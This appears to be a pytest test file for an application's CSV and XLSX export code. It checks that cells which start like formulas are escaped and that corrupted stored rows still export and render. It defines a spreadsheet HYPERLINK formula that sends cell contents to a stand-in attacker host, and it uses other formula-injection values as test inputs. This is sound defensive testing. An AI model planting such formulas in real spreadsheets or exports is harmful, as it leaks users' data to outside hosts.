"""Downloads are safe to open in a spreadsheet, and poisoned stored rows never answer 500
(issue 14, items 1-3)."""

from __future__ import annotations

import csv
import io
import math
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from nrmc.core.export import cell, csv_text, safe_text, xlsx_bytes
from nrmc.db import session_scope
from nrmc.domains.collaboration.models import Dispatch
from nrmc.domains.hospitals.models import Hospital
from nrmc.domains.referrals.models import Referral

from .conftest import login

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("typed", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-", "=",
                                   FORMULA])
def test_a_text_that_a_spreadsheet_would_run_is_written_as_text(typed):
    assert safe_text(typed) == "'" + typed


@pytest.mark.parametrize("value", [-12, -3.5, 0, 42])
def test_genuine_numbers_stay_numbers(value):
    assert cell(value) == value
    assert csv_text([{"n": value}], ["n"], bom=False) == f"n\n{value}\n"
    sheet = load_workbook(io.BytesIO(xlsx_bytes([{"n": value}], ["n"]))).active
    assert sheet["A2"].value == value


@pytest.mark.parametrize("text", ["-12", "+3.5", "1e3", "普通文本", "a=b"])
def test_plain_texts_are_left_alone(text):
    assert safe_text(text) == text


def test_any_stored_text_and_date_is_written_to_both_formats():
    row = {"name": "bell\x07 nul\x00 lone\ud800 esc\x1b", "when": datetime(2024, 3, 5, 10, 0, tzinfo=UTC),
           "naive": datetime(2024, 3, 5, 10, 0), "old": date(1, 1, 1), "far": date(9999, 12, 31),
           "nan": math.nan, "inf": -math.inf, "nested": {"code": "=evil"}, "many": ["a", "=b"]}
    columns = list(row)
    text = csv_text([row], columns)
    assert text.startswith("\ufeff")
    record = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert record["name"] == "bell\ufffd nul\ufffd lone\ufffd esc\ufffd"
    assert record["when"] == record["naive"] == "2024-03-05T18:00:00+08:00"
    assert (record["old"], record["far"]) == ("0001-01-01", "9999-12-31")
    assert record["nan"] == record["inf"] == ""
    assert record["nested"] == "'=evil" and record["many"] == "a;=b"
    text.encode("utf-8")  # no lone surrogate survives
    sheet = load_workbook(io.BytesIO(xlsx_bytes([row], columns, sheet="bad:/name?"))).active
    values = dict(zip(columns, [c.value for c in sheet[2]], strict=True))
    assert values["when"] == "2024-03-05T18:00:00+08:00"
    assert values["old"] == "0001-01-01" and values["far"].year == 9999
    assert values["nan"] is None and values["nested"] == "'=evil"


@pytest.fixture(scope="module")
def poisoned(web_store, cast):
    """Rows as an older version or a direct database edit may have left them."""
    engine, _ = web_store
    with session_scope(engine) as session:
        hospital = session.get(Hospital, cast.jiuquan_hospital)
        hospital.name_en = FORMULA + "\x07"
        if engine.dialect.name == "postgresql":  # SQLite cannot store NaN (it becomes NULL)
            hospital.lat = math.nan
        referral = session.get(Referral, cast.jinta_referral)
        referral.reason = "-2+3 \x1b[31m"
        referral.requested_at = datetime(9999, 12, 31, 23, 30, tzinfo=UTC)
        referral.scheduled_for = datetime(1, 1, 1, 0, 0, tzinfo=timezone(timedelta(0)))
        dispatch = session.query(Dispatch).filter_by(project_id=cast.jiuquan_project).first()
        dispatch.start_date = date(1, 1, 1)
        dispatch.end_date = date(9999, 12, 31)
    return cast


@pytest.mark.parametrize("path", ["/api/v1/hospitals?q=", "/api/v1/referrals", "/api/v1/audit"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_downloads_of_poisoned_rows_are_written_and_defused(as_user, poisoned, path, fmt):
    sep = "&" if "?" in path else "?"
    response = as_user("admin").get(f"{path}{sep}format={fmt}")
    assert response.status_code == 200, response.text[:500]
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for c in row]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
    live = [c for c in cells if isinstance(c, str) and c[:1] in {"=", "+", "@"}]
    assert live == []
    if "hospitals" in path:
        assert "'" + FORMULA + "\ufffd" in cells
    if "referrals" in path:
        assert "'-2+3 \ufffd[31m" in cells


def test_json_answers_with_poisoned_rows_are_not_500(as_user, poisoned):
    for path in (f"/api/v1/hospitals?region={poisoned.jiuquan_region}",
                 f"/api/v1/hospitals/{poisoned.jiuquan_hospital}",
                 f"/api/v1/referrals/{poisoned.jinta_referral}", "/api/v1/referrals",
                 f"/api/v1/projects/{poisoned.jiuquan_project}"):
        response = as_user("admin").get(path)
        assert response.status_code == 200, (path, response.text[:300])


@pytest.mark.parametrize("path", ["/referrals", "/projects/{project}", "/audit",
                                  "/regions/{region}"])
def test_pages_with_poisoned_rows_still_render(client, poisoned, path):
    login(client, "admin")
    response = client.get(path.format(project=poisoned.jiuquan_project,
                                      region=poisoned.jiuquan_region))
    assert response.status_code == 200, response.text[:500]
